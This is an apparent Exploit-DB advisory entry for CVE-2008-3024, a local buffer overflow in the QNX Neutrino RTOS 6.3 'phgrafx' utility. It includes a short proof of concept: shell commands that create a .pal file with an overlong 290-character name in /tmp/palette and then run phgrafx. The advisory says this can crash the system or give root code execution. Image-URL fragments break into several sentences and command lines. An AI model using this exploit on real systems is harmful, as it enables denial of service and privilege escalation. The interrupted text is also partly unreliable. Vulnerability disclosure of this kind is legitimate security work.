QNX Neutrino RTOS 6.3 - 'phgrafx' Local Buffer Overflow Vulnerability

ID EDB-ID:32009
Type exploitdb
Reporter Filipe Balestra
Modified2008-07-01T00:00:00


QNX Neutrino RTOS 6.3 'phgrafx' Local Buffer Overflow Vulnerability. CVE-2008-3024. Dos exploit for unix platform

                                            source: http://www.securityfocus.com/bid/30024/infoQNX Neutrino RTOS is prone to a local buffer-overflow vulnerability because it fails to perform adequate boundary checks on user-supplied input. This issue affects the 'phgrafx'utility.

Attackers can exploit this issue to execute arbitrary code with superuser privileges. Successful exploits will completely compromiseaffected computers. Failed exploit attempts will result in a denial of service.

QNX Neutrino RTOS 6.3.2 and 6.3.0 are vulnerable; other versions may be affected as well.

# cd /tmp
# mkdir palette
# cd palette
#touch `perl -e 'print "A" x 290 . ".pal"'`# /usr/photon/bin/phgrafx